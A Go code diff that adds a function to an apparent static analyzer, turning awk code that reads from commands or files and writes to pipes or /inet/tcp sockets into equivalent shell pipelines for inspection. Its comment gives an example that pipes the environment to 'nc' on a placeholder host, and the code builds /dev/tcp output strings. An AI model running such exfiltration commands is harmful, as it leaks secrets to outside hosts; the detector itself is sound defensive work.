@@ -319,6 +319,9 @@ func (s *state) scanCode(lang, code string, f frame) CodeFacts {
 		for _, cmd := range sc.awkPipes() {
 			s.parseString(cmd, f)
 		}
+		for _, line := range sc.awkLinked() {
+			s.parseString(line, f)
+		}
 	}
 	s.computedFacts(lang, code, &facts, f)
 	return facts
@@ -394,6 +397,67 @@ func (sc *scanner) awkPipes() []string {
 		}
 	}
 	return out
+}
+
+// awkLinked gives, for awk code that both takes data in from commands or
+// files ("cmd" | getline, getline < "file") and hands data out to commands
+// or sockets (print | "cmd", print |& "/inet/tcp/0/HOST/PORT"), a shell
+// pipeline standing for the data passing through it: "{ cmd; cat 'file';
+// } | out", one for each way out. awk 'BEGIN{while(("env"|getline l)>0)
+// print l | "nc H P"}' is env | nc H P.
+func (sc *scanner) awkLinked() []string {
+	c := sc.code
+	var ins, outs []string
+	for i := 0; i < len(c) && len(ins)+len(outs) < MaxCommands; i++ {
+		switch {
+		case c[i] == '|' && i+1 < len(c) && c[i+1] != '&':
+			if j := skipSpace(c, i+1); j < len(c) && c[j] == '"' {
+				if v, _, ok := sc.str(j); ok && v.str != "" {
+					outs = append(outs, v.str)
+				}
+				continue
+			}
+			if rest := strings.TrimLeft(c[i+1:], " \t"); strings.HasPrefix(rest, "getline") {
+				if k := strings.LastIndexByte(c[:i], '"'); k > 0 {
+					if open := strings.LastIndexByte(c[:k], '"'); open >= 0 && open+1 < k {
+						ins = append(ins, c[open+1:k])
+					}
+				}
+			}
+		case strings.HasPrefix(c[i:], "getline"):
+			// getline [var] < "file"
+			j := skipSpace(c, i+len("getline"))
+			for j < len(c) && isIdent(c[j]) {
+				j++
+			}
+			if j = skipSpace(c, j); j < len(c) && c[j] == '<' {
+				if k := skipSpace(c, j+1); k < len(c) && c[k] == '"' {
+					if v, _, ok := sc.str(k); ok && v.str != "" {
+						ins = append(ins, "cat "+quoteWord(v.str))
+					}
+				}
+			}
+		case strings.HasPrefix(c[i:], "/inet/tcp/") || strings.HasPrefix(c[i:], "/inet4/tcp/") || strings.HasPrefix(c[i:], "/inet6/tcp/"):
+			// /inet/tcp/LPORT/HOST/RPORT: a connection out
+			end := i
+			for end < len(c) && c[end] != '"' && c[end] != '\'' && c[end] != ' ' && c[end] != ')' {
+				end++
+			}
+			if parts := strings.Split(c[i:end], "/"); len(parts) == 6 && parts[4] != "" && parts[5] != "" {
+				outs = append(outs, "cat > /dev/tcp/"+parts[4]+"/"+parts[5])
+			}
+			i = end
+		}
+	}
+	if len(ins) == 0 || len(outs) == 0 {
+		return nil
+	}
+	src := "{ " + strings.Join(ins, "; ") + "; }"
+	lines := make([]string, len(outs))
+	for k, o := range outs {
+		lines[k] = src + " | " + o
+	}
+	return lines
 }
 
 // hook reports what one call does; rest is the code after the call. It
